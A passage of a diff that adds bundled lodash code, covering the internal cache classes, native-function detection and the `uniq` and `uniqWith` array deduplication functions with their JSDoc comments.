+	 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+	 */
+	function mapCacheHas(key) {
+	  return getMapData(this, key).has(key);
+	}
+
+	/**
+	 * Sets the map `key` to `value`.
+	 *
+	 * @private
+	 * @name set
+	 * @memberOf MapCache
+	 * @param {string} key The key of the value to set.
+	 * @param {*} value The value to set.
+	 * @returns {Object} Returns the map cache instance.
+	 */
+	function mapCacheSet(key, value) {
+	  getMapData(this, key).set(key, value);
+	  return this;
+	}
+
+	// Add methods to `MapCache`.
+	MapCache.prototype.clear = mapCacheClear;
+	MapCache.prototype['delete'] = mapCacheDelete;
+	MapCache.prototype.get = mapCacheGet;
+	MapCache.prototype.has = mapCacheHas;
+	MapCache.prototype.set = mapCacheSet;
+
+	/**
+	 *
+	 * Creates an array cache object to store unique values.
+	 *
+	 * @private
+	 * @constructor
+	 * @param {Array} [values] The values to cache.
+	 */
+	function SetCache(values) {
+	  var index = -1,
+	      length = values ? values.length : 0;
+
+	  this.__data__ = new MapCache;
+	  while (++index < length) {
+	    this.add(values[index]);
+	  }
+	}
+
+	/**
+	 * Adds `value` to the array cache.
+	 *
+	 * @private
+	 * @name add
+	 * @memberOf SetCache
+	 * @alias push
+	 * @param {*} value The value to cache.
+	 * @returns {Object} Returns the cache instance.
+	 */
+	function setCacheAdd(value) {
+	  this.__data__.set(value, HASH_UNDEFINED);
+	  return this;
+	}
+
+	/**
+	 * Checks if `value` is in the array cache.
+	 *
+	 * @private
+	 * @name has
+	 * @memberOf SetCache
+	 * @param {*} value The value to search for.
+	 * @returns {number} Returns `true` if `value` is found, else `false`.
+	 */
+	function setCacheHas(value) {
+	  return this.__data__.has(value);
+	}
+
+	// Add methods to `SetCache`.
+	SetCache.prototype.add = SetCache.prototype.push = setCacheAdd;
+	SetCache.prototype.has = setCacheHas;
+
+	/**
+	 * Gets the index at which the `key` is found in `array` of key-value pairs.
+	 *
+	 * @private
+	 * @param {Array} array The array to inspect.
+	 * @param {*} key The key to search for.
+	 * @returns {number} Returns the index of the matched value, else `-1`.
+	 */
+	function assocIndexOf(array, key) {
+	  var length = array.length;
+	  while (length--) {
+	    if (eq(array[length][0], key)) {
+	      return length;
+	    }
+	  }
+	  return -1;
+	}
+
+	/**
+	 * The base implementation of `_.isNative` without bad shim checks.
+	 *
+	 * @private
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is a native function,
+	 *  else `false`.
+	 */
+	function baseIsNative(value) {
+	  if (!isObject(value) || isMasked(value)) {
+	    return false;
+	  }
+	  var pattern = (isFunction(value) || isHostObject(value)) ? reIsNative : reIsHostCtor;
+	  return pattern.test(toSource(value));
+	}
+
+	/**
+	 * The base implementation of `_.uniqBy` without support for iteratee shorthands.
+	 *
+	 * @private
+	 * @param {Array} array The array to inspect.
+	 * @param {Function} [iteratee] The iteratee invoked per element.
+	 * @param {Function} [comparator] The comparator invoked per element.
+	 * @returns {Array} Returns the new duplicate free array.
+	 */
+	function baseUniq(array, iteratee, comparator) {
+	  var index = -1,
+	      includes = arrayIncludes,
+	      length = array.length,
+	      isCommon = true,
+	      result = [],
+	      seen = result;
+
+	  if (length >= LARGE_ARRAY_SIZE) {
+	    var set = createSet(array);
+	    if (set) {
+	      return setToArray(set);
+	    }
+	    isCommon = false;
+	    includes = cacheHas;
+	    seen = new SetCache;
+	  }
+	  else {
+	    seen = result;
+	  }
+	  outer:
+	  while (++index < length) {
+	    var value = array[index],
+	        computed = value;
+
+	    value = (value !== 0) ? value : 0;
+	    if (isCommon && computed === computed) {
+	      var seenIndex = seen.length;
+	      while (seenIndex--) {
+	        if (seen[seenIndex] === computed) {
+	          continue outer;
+	        }
+	      }
+	      result.push(value);
+	    }
+	    else if (!includes(seen, computed, comparator)) {
+	      if (seen !== result) {
+	        seen.push(computed);
+	      }
+	      result.push(value);
+	    }
+	  }
+	  return result;
+	}
+
+	/**
+	 * Creates a set object of `values`.
+	 *
+	 * @private
+	 * @param {Array} values The values to add to the set.
+	 * @returns {Object} Returns the new set.
+	 */
+	var createSet = !(Set && (1 / setToArray(new Set([,-0]))[1]) == INFINITY) ? noop : function(values) {
+	  return new Set(values);
+	};
+
+	/**
+	 * Gets the data for `map`.
+	 *
+	 * @private
+	 * @param {Object} map The map to query.
+	 * @param {string} key The reference key.
+	 * @returns {*} Returns the map data.
+	 */
+	function getMapData(map, key) {
+	  var data = map.__data__;
+	  return isKeyable(key)
+	    ? data[typeof key == 'string' ? 'string' : 'hash']
+	    : data.map;
+	}
+
+	/**
+	 * Gets the native function at `key` of `object`.
+	 *
+	 * @private
+	 * @param {Object} object The object to query.
+	 * @param {string} key The key of the method to get.
+	 * @returns {*} Returns the function if it's native, else `undefined`.
+	 */
+	function getNative(object, key) {
+	  var value = getValue(object, key);
+	  return baseIsNative(value) ? value : undefined;
+	}
+
+	/**
+	 * Checks if `value` is suitable for use as unique object key.
+	 *
+	 * @private
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is suitable, else `false`.
+	 */
+	function isKeyable(value) {
+	  var type = typeof value;
+	  return (type == 'string' || type == 'number' || type == 'symbol' || type == 'boolean')
+	    ? (value !== '__proto__')
+	    : (value === null);
+	}
+
+	/**
+	 * Checks if `func` has its source masked.
+	 *
+	 * @private
+	 * @param {Function} func The function to check.
+	 * @returns {boolean} Returns `true` if `func` is masked, else `false`.
+	 */
+	function isMasked(func) {
+	  return !!maskSrcKey && (maskSrcKey in func);
+	}
+
+	/**
+	 * Converts `func` to its source code.
+	 *
+	 * @private
+	 * @param {Function} func The function to process.
+	 * @returns {string} Returns the source code.
+	 */
+	function toSource(func) {
+	  if (func != null) {
+	    try {
+	      return funcToString.call(func);
+	    } catch (e) {}
+	    try {
+	      return (func + '');
+	    } catch (e) {}
+	  }
+	  return '';
+	}
+
+	/**
+	 * Creates a duplicate-free version of an array, using
+	 * [`SameValueZero`](http://ecma-international.org/ecma-262/7.0/#sec-samevaluezero)
+	 * for equality comparisons, in which only the first occurrence of each
+	 * element is kept.
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 0.1.0
+	 * @category Array
+	 * @param {Array} array The array to inspect.
+	 * @returns {Array} Returns the new duplicate free array.
+	 * @example
+	 *
+	 * _.uniq([2, 1, 2]);
+	 * // => [2, 1]
+	 */
+	function uniq(array) {
+	  return (array && array.length)
+	    ? baseUniq(array)
+	    : [];
+	}
+
+	/**
+	 * Performs a
+	 * [`SameValueZero`](http://ecma-international.org/ecma-262/7.0/#sec-samevaluezero)
+	 * comparison between two values to determine if they are equivalent.
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 4.0.0
+	 * @category Lang
+	 * @param {*} value The value to compare.
+	 * @param {*} other The other value to compare.
+	 * @returns {boolean} Returns `true` if the values are equivalent, else `false`.
+	 * @example
+	 *
+	 * var object = { 'a': 1 };
+	 * var other = { 'a': 1 };
+	 *
+	 * _.eq(object, object);
+	 * // => true
+	 *
+	 * _.eq(object, other);
+	 * // => false
+	 *
+	 * _.eq('a', 'a');
+	 * // => true
+	 *
+	 * _.eq('a', Object('a'));
+	 * // => false
+	 *
+	 * _.eq(NaN, NaN);
+	 * // => true
+	 */
+	function eq(value, other) {
+	  return value === other || (value !== value && other !== other);
+	}
+
+	/**
+	 * Checks if `value` is classified as a `Function` object.
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 0.1.0
+	 * @category Lang
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is a function, else `false`.
+	 * @example
+	 *
+	 * _.isFunction(_);
+	 * // => true
+	 *
+	 * _.isFunction(/abc/);
+	 * // => false
+	 */
+	function isFunction(value) {
+	  // The use of `Object#toString` avoids issues with the `typeof` operator
+	  // in Safari 8-9 which returns 'object' for typed array and other constructors.
+	  var tag = isObject(value) ? objectToString.call(value) : '';
+	  return tag == funcTag || tag == genTag;
+	}
+
+	/**
+	 * Checks if `value` is the
+	 * [language type](http://www.ecma-international.org/ecma-262/7.0/#sec-ecmascript-language-types)
+	 * of `Object`. (e.g. arrays, functions, objects, regexes, `new Number(0)`, and `new String('')`)
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 0.1.0
+	 * @category Lang
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is an object, else `false`.
+	 * @example
+	 *
+	 * _.isObject({});
+	 * // => true
+	 *
+	 * _.isObject([1, 2, 3]);
+	 * // => true
+	 *
+	 * _.isObject(_.noop);
+	 * // => true
+	 *
+	 * _.isObject(null);
+	 * // => false
+	 */
+	function isObject(value) {
+	  var type = typeof value;
+	  return !!value && (type == 'object' || type == 'function');
+	}
+
+	/**
+	 * This method returns `undefined`.
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 2.3.0
+	 * @category Util
+	 * @example
+	 *
+	 * _.times(2, _.noop);
+	 * // => [undefined, undefined]
+	 */
+	function noop() {
+	  // No operation performed.
+	}
+
+	lodash_uniq = uniq;
+	return lodash_uniq;
+}
+
+/**
+ * lodash (Custom Build) <https://lodash.com/>
+ * Build: `lodash modularize exports="npm" -o ./`
+ * Copyright jQuery Foundation and other contributors <https://jquery.org/>
+ * Released under MIT license <https://lodash.com/license>
+ * Based on Underscore.js 1.8.3 <http://underscorejs.org/LICENSE>
+ * Copyright Jeremy Ashkenas, DocumentCloud and Investigative Reporters & Editors
+ */
+
+var lodash_uniqwith;
+var hasRequiredLodash_uniqwith;
+
+function requireLodash_uniqwith () {
+	if (hasRequiredLodash_uniqwith) return lodash_uniqwith;
+	hasRequiredLodash_uniqwith = 1;
+	/** Used as the size to enable large array optimizations. */
+	var LARGE_ARRAY_SIZE = 200;
+
+	/** Used to stand-in for `undefined` hash values. */
+	var HASH_UNDEFINED = '__lodash_hash_undefined__';
+
+	/** Used as references for various `Number` constants. */
+	var INFINITY = 1 / 0;
+
+	/** `Object#toString` result references. */
+	var funcTag = '[object Function]',
+	    genTag = '[object GeneratorFunction]';
+
+	/**
+	 * Used to match `RegExp`
+	 * [syntax characters](http://ecma-international.org/ecma-262/7.0/#sec-patterns).
+	 */
+	var reRegExpChar = /[\\^$.*+?()[\]{}|]/g;
+
+	/** Used to detect host constructors (Safari). */
+	var reIsHostCtor = /^\[object .+?Constructor\]$/;
+
+	/** Detect free variable `global` from Node.js. */
+	var freeGlobal = typeof commonjsGlobal == 'object' && commonjsGlobal && commonjsGlobal.Object === Object && commonjsGlobal;
+
+	/** Detect free variable `self`. */
+	var freeSelf = typeof self == 'object' && self && self.Object === Object && self;
+
+	/** Used as a reference to the global object. */
+	var root = freeGlobal || freeSelf || Function('return this')();
+
+	/**
+	 * A specialized version of `_.includes` for arrays without support for
+	 * specifying an index to search from.
+	 *
+	 * @private
+	 * @param {Array} [array] The array to inspect.
+	 * @param {*} target The value to search for.
+	 * @returns {boolean} Returns `true` if `target` is found, else `false`.
+	 */
+	function arrayIncludes(array, value) {
+	  var length = array ? array.length : 0;
+	  return !!length && baseIndexOf(array, value, 0) > -1;
+	}
+
+	/**
+	 * This function is like `arrayIncludes` except that it accepts a comparator.
+	 *
+	 * @private
+	 * @param {Array} [array] The array to inspect.
+	 * @param {*} target The value to search for.
+	 * @param {Function} comparator The comparator invoked per element.
+	 * @returns {boolean} Returns `true` if `target` is found, else `false`.
+	 */
+	function arrayIncludesWith(array, value, comparator) {
+	  var index = -1,
+	      length = array ? array.length : 0;
+
+	  while (++index < length) {
+	    if (comparator(value, array[index])) {
+	      return true;
+	    }
+	  }
+	  return false;
+	}
+
+	/**
+	 * The base implementation of `_.findIndex` and `_.findLastIndex` without
+	 * support for iteratee shorthands.
+	 *
+	 * @private
+	 * @param {Array} array The array to inspect.
+	 * @param {Function} predicate The function invoked per iteration.
+	 * @param {number} fromIndex The index to search from.
+	 * @param {boolean} [fromRight] Specify iterating from right to left.
+	 * @returns {number} Returns the index of the matched value, else `-1`.
+	 */
+	function baseFindIndex(array, predicate, fromIndex, fromRight) {
+	  var length = array.length,
+	      index = fromIndex + (-1);
+
+	  while ((++index < length)) {
+	    if (predicate(array[index], index, array)) {
+	      return index;
+	    }
+	  }
+	  return -1;
+	}
+
+	/**
+	 * The base implementation of `_.indexOf` without `fromIndex` bounds checks.
+	 *
+	 * @private
+	 * @param {Array} array The array to inspect.
+	 * @param {*} value The value to search for.
+	 * @param {number} fromIndex The index to search from.
+	 * @returns {number} Returns the index of the matched value, else `-1`.
+	 */
+	function baseIndexOf(array, value, fromIndex) {
+	  if (value !== value) {
+	    return baseFindIndex(array, baseIsNaN, fromIndex);
+	  }
+	  var index = fromIndex - 1,
+	      length = array.length;
+
+	  while (++index < length) {
+	    if (array[index] === value) {
+	      return index;
+	    }
+	  }
+	  return -1;
+	}
+
+	/**
+	 * The base implementation of `_.isNaN` without support for number objects.
+	 *
+	 * @private
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is `NaN`, else `false`.
+	 */
+	function baseIsNaN(value) {
+	  return value !== value;
+	}
+
+	/**
+	 * Checks if a cache value for `key` exists.
+	 *
+	 * @private
+	 * @param {Object} cache The cache to query.
+	 * @param {string} key The key of the entry to check.
+	 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+	 */
+	function cacheHas(cache, key) {
+	  return cache.has(key);
+	}
+
+	/**
+	 * Gets the value at `key` of `object`.
+	 *
+	 * @private
+	 * @param {Object} [object] The object to query.
+	 * @param {string} key The key of the property to get.
+	 * @returns {*} Returns the property value.
+	 */
+	function getValue(object, key) {
+	  return object == null ? undefined : object[key];
+	}
+
+	/**
+	 * Checks if `value` is a host object in IE < 9.
+	 *
+	 * @private
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is a host object, else `false`.
+	 */
+	function isHostObject(value) {
+	  // Many host objects are `Object` objects that can coerce to strings
+	  // despite having improperly defined `toString` methods.
+	  var result = false;
+	  if (value != null && typeof value.toString != 'function') {
+	    try {
+	      result = !!(value + '');
+	    } catch (e) {}
+	  }
+	  return result;
+	}
+
+	/**
+	 * Converts `set` to an array of its values.
+	 *
+	 * @private
+	 * @param {Object} set The set to convert.
+	 * @returns {Array} Returns the values.
+	 */
+	function setToArray(set) {
+	  var index = -1,
+	      result = Array(set.size);
+
+	  set.forEach(function(value) {
+	    result[++index] = value;
+	  });
+	  return result;
+	}
+
+	/** Used for built-in method references. */
+	var arrayProto = Array.prototype,
+	    funcProto = Function.prototype,
+	    objectProto = Object.prototype;
+
+	/** Used to detect overreaching core-js shims. */
+	var coreJsData = root['__core-js_shared__'];
+
+	/** Used to detect methods masquerading as native. */
+	var maskSrcKey = (function() {
+	  var uid = /[^.]+$/.exec(coreJsData && coreJsData.keys && coreJsData.keys.IE_PROTO || '');
+	  return uid ? ('Symbol(src)_1.' + uid) : '';
+	}());
+
+	/** Used to resolve the decompiled source of functions. */
+	var funcToString = funcProto.toString;
+
+	/** Used to check objects for own properties. */
+	var hasOwnProperty = objectProto.hasOwnProperty;
+
+	/**
+	 * Used to resolve the
+	 * [`toStringTag`](http://ecma-international.org/ecma-262/7.0/#sec-object.prototype.tostring)
+	 * of values.
+	 */
+	var objectToString = objectProto.toString;
+
+	/** Used to detect if a method is native. */
+	var reIsNative = RegExp('^' +
+	  funcToString.call(hasOwnProperty).replace(reRegExpChar, '\\$&')
+	  .replace(/hasOwnProperty|(function).*?(?=\\\()| for .+?(?=\\\])/g, '$1.*?') + '$'
+	);
+
+	/** Built-in value references. */
+	var splice = arrayProto.splice;
+
+	/* Built-in method references that are verified to be native. */
+	var Map = getNative(root, 'Map'),
+	    Set = getNative(root, 'Set'),
+	    nativeCreate = getNative(Object, 'create');
+
+	/**
+	 * Creates a hash object.
+	 *
+	 * @private
+	 * @constructor
+	 * @param {Array} [entries] The key-value pairs to cache.
+	 */
+	function Hash(entries) {
+	  var index = -1,
+	      length = entries ? entries.length : 0;
+
+	  this.clear();
+	  while (++index < length) {
+	    var entry = entries[index];
+	    this.set(entry[0], entry[1]);
+	  }
+	}
+
+	/**
+	 * Removes all key-value entries from the hash.
+	 *
+	 * @private
+	 * @name clear
+	 * @memberOf Hash
+	 */
+	function hashClear() {
+	  this.__data__ = nativeCreate ? nativeCreate(null) : {};
+	}
+
+	/**
+	 * Removes `key` and its value from the hash.
+	 *
+	 * @private
+	 * @name delete
+	 * @memberOf Hash
+	 * @param {Object} hash The hash to modify.
+	 * @param {string} key The key of the value to remove.
+	 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+	 */
+	function hashDelete(key) {
+	  return this.has(key) && delete this.__data__[key];
+	}
+
+	/**
+	 * Gets the hash value for `key`.
+	 *
+	 * @private
+	 * @name get
+	 * @memberOf Hash
+	 * @param {string} key The key of the value to get.
+	 * @returns {*} Returns the entry value.
+	 */
+	function hashGet(key) {
+	  var data = this.__data__;
+	  if (nativeCreate) {
+	    var result = data[key];
+	    return result === HASH_UNDEFINED ? undefined : result;
+	  }
+	  return hasOwnProperty.call(data, key) ? data[key] : undefined;
+	}
+
+	/**
+	 * Checks if a hash value for `key` exists.
+	 *
+	 * @private
+	 * @name has
+	 * @memberOf Hash
+	 * @param {string} key The key of the entry to check.
+	 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+	 */
+	function hashHas(key) {
+	  var data = this.__data__;
+	  return nativeCreate ? data[key] !== undefined : hasOwnProperty.call(data, key);
+	}
+
+	/**
+	 * Sets the hash `key` to `value`.
+	 *
+	 * @private
+	 * @name set
+	 * @memberOf Hash
+	 * @param {string} key The key of the value to set.
+	 * @param {*} value The value to set.
+	 * @returns {Object} Returns the hash instance.
+	 */
+	function hashSet(key, value) {
+	  var data = this.__data__;
+	  data[key] = (nativeCreate && value === undefined) ? HASH_UNDEFINED : value;
+	  return this;
+	}
+
+	// Add methods to `Hash`.
+	Hash.prototype.clear = hashClear;
+	Hash.prototype['delete'] = hashDelete;
+	Hash.prototype.get = hashGet;
+	Hash.prototype.has = hashHas;
+	Hash.prototype.set = hashSet;
+
+	/**
+	 * Creates an list cache object.
+	 *
+	 * @private
+	 * @constructor
+	 * @param {Array} [entries] The key-value pairs to cache.
+	 */
+	function ListCache(entries) {
+	  var index = -1,
+	      length = entries ? entries.length : 0;
+
+	  this.clear();
+	  while (++index < length) {
+	    var entry = entries[index];
+	    this.set(entry[0], entry[1]);
+	  }
+	}
+
+	/**
+	 * Removes all key-value entries from the list cache.
+	 *
+	 * @private
+	 * @name clear
+	 * @memberOf ListCache
+	 */
+	function listCacheClear() {
+	  this.__data__ = [];
+	}
+
+	/**
+	 * Removes `key` and its value from the list cache.
+	 *
+	 * @private
+	 * @name delete
+	 * @memberOf ListCache
+	 * @param {string} key The key of the value to remove.
+	 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+	 */
+	function listCacheDelete(key) {
+	  var data = this.__data__,
+	      index = assocIndexOf(data, key);
+
+	  if (index < 0) {
+	    return false;
+	  }
+	  var lastIndex = data.length - 1;
+	  if (index == lastIndex) {
+	    data.pop();
+	  } else {
+	    splice.call(data, index, 1);
+	  }
+	  return true;
+	}
+
+	/**
+	 * Gets the list cache value for `key`.
+	 *
+	 * @private
+	 * @name get
+	 * @memberOf ListCache
+	 * @param {string} key The key of the value to get.
+	 * @returns {*} Returns the entry value.
+	 */
+	function listCacheGet(key) {
+	  var data = this.__data__,
+	      index = assocIndexOf(data, key);
+
+	  return index < 0 ? undefined : data[index][1];
+	}
+
+	/**
+	 * Checks if a list cache value for `key` exists.
+	 *
+	 * @private
+	 * @name has
+	 * @memberOf ListCache
+	 * @param {string} key The key of the entry to check.
+	 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+	 */
+	function listCacheHas(key) {
+	  return assocIndexOf(this.__data__, key) > -1;
+	}
+
+	/**
+	 * Sets the list cache `key` to `value`.
+	 *
+	 * @private
+	 * @name set
+	 * @memberOf ListCache
+	 * @param {string} key The key of the value to set.
+	 * @param {*} value The value to set.
+	 * @returns {Object} Returns the list cache instance.
+	 */
+	function listCacheSet(key, value) {
+	  var data = this.__data__,
+	      index = assocIndexOf(data, key);
+
+	  if (index < 0) {
+	    data.push([key, value]);
+	  } else {
+	    data[index][1] = value;
+	  }
+	  return this;
+	}
+
+	// Add methods to `ListCache`.
+	ListCache.prototype.clear = listCacheClear;
+	ListCache.prototype['delete'] = listCacheDelete;
+	ListCache.prototype.get = listCacheGet;
+	ListCache.prototype.has = listCacheHas;
+	ListCache.prototype.set = listCacheSet;
+
+	/**
+	 * Creates a map cache object to store key-value pairs.
+	 *
+	 * @private
+	 * @constructor
+	 * @param {Array} [entries] The key-value pairs to cache.
+	 */
+	function MapCache(entries) {
+	  var index = -1,
+	      length = entries ? entries.length : 0;
+
+	  this.clear();
+	  while (++index < length) {
+	    var entry = entries[index];
+	    this.set(entry[0], entry[1]);
+	  }
+	}
+
+	/**
+	 * Removes all key-value entries from the map.
+	 *
+	 * @private
+	 * @name clear
+	 * @memberOf MapCache
+	 */
+	function mapCacheClear() {
+	  this.__data__ = {
+	    'hash': new Hash,
+	    'map': new (Map || ListCache),
+	    'string': new Hash
+	  };
+	}
+
+	/**
+	 * Removes `key` and its value from the map.
+	 *
+	 * @private
+	 * @name delete
+	 * @memberOf MapCache
+	 * @param {string} key The key of the value to remove.
+	 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+	 */
+	function mapCacheDelete(key) {
+	  return getMapData(this, key)['delete'](key);
+	}
+
+	/**
+	 * Gets the map value for `key`.
+	 *
+	 * @private
+	 * @name get
+	 * @memberOf MapCache
+	 * @param {string} key The key of the value to get.
+	 * @returns {*} Returns the entry value.
+	 */
+	function mapCacheGet(key) {
+	  return getMapData(this, key).get(key);
+	}
+
+	/**
+	 * Checks if a map value for `key` exists.
+	 *
+	 * @private
+	 * @name has
+	 * @memberOf MapCache
+	 * @param {string} key The key of the entry to check.
+	 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+	 */
+	function mapCacheHas(key) {
+	  return getMapData(this, key).has(key);
+	}
+
+	/**
+	 * Sets the map `key` to `value`.
+	 *
+	 * @private
+	 * @name set
+	 * @memberOf MapCache
+	 * @param {string} key The key of the value to set.
+	 * @param {*} value The value to set.
+	 * @returns {Object} Returns the map cache instance.
+	 */
+	function mapCacheSet(key, value) {
+	  getMapData(this, key).set(key, value);
+	  return this;
+	}
+
+	// Add methods to `MapCache`.
+	MapCache.prototype.clear = mapCacheClear;
+	MapCache.prototype['delete'] = mapCacheDelete;
+	MapCache.prototype.get = mapCacheGet;
+	MapCache.prototype.has = mapCacheHas;
+	MapCache.prototype.set = mapCacheSet;
+
+	/**
+	 *
+	 * Creates an array cache object to store unique values.
+	 *
+	 * @private
+	 * @constructor
+	 * @param {Array} [values] The values to cache.
+	 */
+	function SetCache(values) {
+	  var index = -1,
+	      length = values ? values.length : 0;
+
+	  this.__data__ = new MapCache;
+	  while (++index < length) {
+	    this.add(values[index]);
+	  }
+	}
+
+	/**
+	 * Adds `value` to the array cache.
+	 *
+	 * @private
+	 * @name add
+	 * @memberOf SetCache
+	 * @alias push
+	 * @param {*} value The value to cache.
+	 * @returns {Object} Returns the cache instance.
+	 */
+	function setCacheAdd(value) {
+	  this.__data__.set(value, HASH_UNDEFINED);
+	  return this;
+	}
+
+	/**
+	 * Checks if `value` is in the array cache.
+	 *
+	 * @private
+	 * @name has
+	 * @memberOf SetCache
+	 * @param {*} value The value to search for.
+	 * @returns {number} Returns `true` if `value` is found, else `false`.
+	 */
+	function setCacheHas(value) {
+	  return this.__data__.has(value);
+	}
+
+	// Add methods to `SetCache`.
+	SetCache.prototype.add = SetCache.prototype.push = setCacheAdd;
+	SetCache.prototype.has = setCacheHas;
+
+	/**
+	 * Gets the index at which the `key` is found in `array` of key-value pairs.
+	 *
+	 * @private
+	 * @param {Array} array The array to inspect.
+	 * @param {*} key The key to search for.
+	 * @returns {number} Returns the index of the matched value, else `-1`.
+	 */
+	function assocIndexOf(array, key) {
+	  var length = array.length;
+	  while (length--) {
+	    if (eq(array[length][0], key)) {
+	      return length;
+	    }
+	  }
+	  return -1;
+	}
+
+	/**
+	 * The base implementation of `_.isNative` without bad shim checks.
+	 *
+	 * @private
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is a native function,
+	 *  else `false`.
+	 */
+	function baseIsNative(value) {
+	  if (!isObject(value) || isMasked(value)) {
+	    return false;
+	  }
+	  var pattern = (isFunction(value) || isHostObject(value)) ? reIsNative : reIsHostCtor;
+	  return pattern.test(toSource(value));
+	}
+
+	/**
+	 * The base implementation of `_.uniqBy` without support for iteratee shorthands.
+	 *
+	 * @private
+	 * @param {Array} array The array to inspect.
+	 * @param {Function} [iteratee] The iteratee invoked per element.
+	 * @param {Function} [comparator] The comparator invoked per element.
+	 * @returns {Array} Returns the new duplicate free array.
+	 */
+	function baseUniq(array, iteratee, comparator) {
+	  var index = -1,
+	      includes = arrayIncludes,
+	      length = array.length,
+	      isCommon = true,
+	      result = [],
+	      seen = result;
+
+	  if (comparator) {
+	    isCommon = false;
+	    includes = arrayIncludesWith;
+	  }
+	  else if (length >= LARGE_ARRAY_SIZE) {
+	    var set = createSet(array);
+	    if (set) {
+	      return setToArray(set);
+	    }
+	    isCommon = false;
+	    includes = cacheHas;
+	    seen = new SetCache;
+	  }
+	  else {
+	    seen = result;
+	  }
+	  outer:
+	  while (++index < length) {
+	    var value = array[index],
+	        computed = value;
+
+	    value = (comparator || value !== 0) ? value : 0;
+	    if (isCommon && computed === computed) {
+	      var seenIndex = seen.length;
+	      while (seenIndex--) {
+	        if (seen[seenIndex] === computed) {
+	          continue outer;
+	        }
+	      }
+	      result.push(value);
+	    }
+	    else if (!includes(seen, computed, comparator)) {
+	      if (seen !== result) {
+	        seen.push(computed);
+	      }
+	      result.push(value);
+	    }
+	  }
+	  return result;
+	}
+
+	/**
+	 * Creates a set object of `values`.
+	 *
+	 * @private
+	 * @param {Array} values The values to add to the set.
+	 * @returns {Object} Returns the new set.
+	 */
+	var createSet = !(Set && (1 / setToArray(new Set([,-0]))[1]) == INFINITY) ? noop : function(values) {
+	  return new Set(values);
+	};
+
+	/**
+	 * Gets the data for `map`.
+	 *
+	 * @private
+	 * @param {Object} map The map to query.
+	 * @param {string} key The reference key.
+	 * @returns {*} Returns the map data.
+	 */
+	function getMapData(map, key) {
+	  var data = map.__data__;
+	  return isKeyable(key)
+	    ? data[typeof key == 'string' ? 'string' : 'hash']
+	    : data.map;
+	}
+
+	/**
+	 * Gets the native function at `key` of `object`.
+	 *
+	 * @private
+	 * @param {Object} object The object to query.
+	 * @param {string} key The key of the method to get.
+	 * @returns {*} Returns the function if it's native, else `undefined`.
+	 */
+	function getNative(object, key) {
+	  var value = getValue(object, key);
+	  return baseIsNative(value) ? value : undefined;
+	}
+
+	/**
+	 * Checks if `value` is suitable for use as unique object key.
+	 *
+	 * @private
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is suitable, else `false`.
+	 */
+	function isKeyable(value) {
+	  var type = typeof value;
+	  return (type == 'string' || type == 'number' || type == 'symbol' || type == 'boolean')
+	    ? (value !== '__proto__')
+	    : (value === null);
+	}
+
+	/**
+	 * Checks if `func` has its source masked.
+	 *
+	 * @private
+	 * @param {Function} func The function to check.
+	 * @returns {boolean} Returns `true` if `func` is masked, else `false`.
+	 */
+	function isMasked(func) {
+	  return !!maskSrcKey && (maskSrcKey in func);
+	}
+
+	/**
+	 * Converts `func` to its source code.
+	 *
+	 * @private
+	 * @param {Function} func The function to process.
+	 * @returns {string} Returns the source code.
+	 */
+	function toSource(func) {
+	  if (func != null) {
+	    try {
+	      return funcToString.call(func);
+	    } catch (e) {}
+	    try {
+	      return (func + '');
+	    } catch (e) {}
+	  }
+	  return '';
+	}
+
+	/**
+	 * This method is like `_.uniq` except that it accepts `comparator` which
+	 * is invoked to compare elements of `array`. The comparator is invoked with
+	 * two arguments: (arrVal, othVal).
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 4.0.0
+	 * @category Array
+	 * @param {Array} array The array to inspect.
+	 * @param {Function} [comparator] The comparator invoked per element.
+	 * @returns {Array} Returns the new duplicate free array.
+	 * @example
+	 *
+	 * var objects = [{ 'x': 1, 'y': 2 }, { 'x': 2, 'y': 1 }, { 'x': 1, 'y': 2 }];
+	 *
+	 * _.uniqWith(objects, _.isEqual);
+	 * // => [{ 'x': 1, 'y': 2 }, { 'x': 2, 'y': 1 }]
+	 */
+	function uniqWith(array, comparator) {
+	  return (array && array.length)
+	    ? baseUniq(array, undefined, comparator)
+	    : [];
+	}
+
+	/**
+	 * Performs a
+	 * [`SameValueZero`](http://ecma-international.org/ecma-262/7.0/#sec-samevaluezero)
+	 * comparison between two values to determine if they are equivalent.
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 4.0.0
+	 * @category Lang
+	 * @param {*} value The value to compare.
+	 * @param {*} other The other value to compare.
+	 * @returns {boolean} Returns `true` if the values are equivalent, else `false`.
+	 * @example
+	 *
+	 * var object = { 'a': 1 };
+	 * var other = { 'a': 1 };
+	 *
+	 * _.eq(object, object);
+	 * // => true
+	 *
+	 * _.eq(object, other);
+	 * // => false
+	 *
+	 * _.eq('a', 'a');
+	 * // => true
+	 *
+	 * _.eq('a', Object('a'));
+	 * // => false
+	 *
+	 * _.eq(NaN, NaN);
+	 * // => true
+	 */
+	function eq(value, other) {
+	  return value === other || (value !== value && other !== other);
+	}
+
+	/**
+	 * Checks if `value` is classified as a `Function` object.
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 0.1.0
+	 * @category Lang
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is a function, else `false`.
+	 * @example
+	 *
+	 * _.isFunction(_);
+	 * // => true
+	 *
